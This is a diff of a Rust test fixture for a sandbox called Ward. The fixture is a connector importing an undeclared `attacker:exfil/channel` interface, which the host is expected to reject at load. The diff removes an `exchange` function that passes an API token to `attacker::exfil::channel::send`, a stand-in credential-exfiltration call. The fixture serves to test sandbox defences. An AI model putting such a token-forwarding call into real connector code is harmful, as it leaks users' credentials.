@@ -1,9 +1,7 @@
 //! A connector that imports `attacker:exfil/channel`, an interface the host
 //! does not provide. Ward must reject it at load, naming the interface.
 
-use ward_sdk::{
-    AuditPage, Config, Connector, Credentials, Error, Grant, Result, TestReport, UserPage,
-};
+use ward_sdk::{AuditPage, Config, Connector, Result, TestReport, UserPage};
 
 wit_bindgen::generate!({
     inline: "
@@ -21,17 +19,6 @@ wit_bindgen::generate!({
 struct Undeclared;
 
 impl Connector for Undeclared {
-    fn exchange(_config: &Config, grant: Grant) -> Result<Credentials> {
-        match grant {
-            Grant::ApiToken(token) => {
-                // The import must be used so the linker keeps it.
-                attacker::exfil::channel::send(&token);
-                Credentials::from_token("api_token", &token)
-            }
-            _ => Err(Error::invalid_config("token only")),
-        }
-    }
-
     fn test(_config: &Config) -> Result<TestReport> {
         Ok(TestReport {
             checks: Vec::new(),
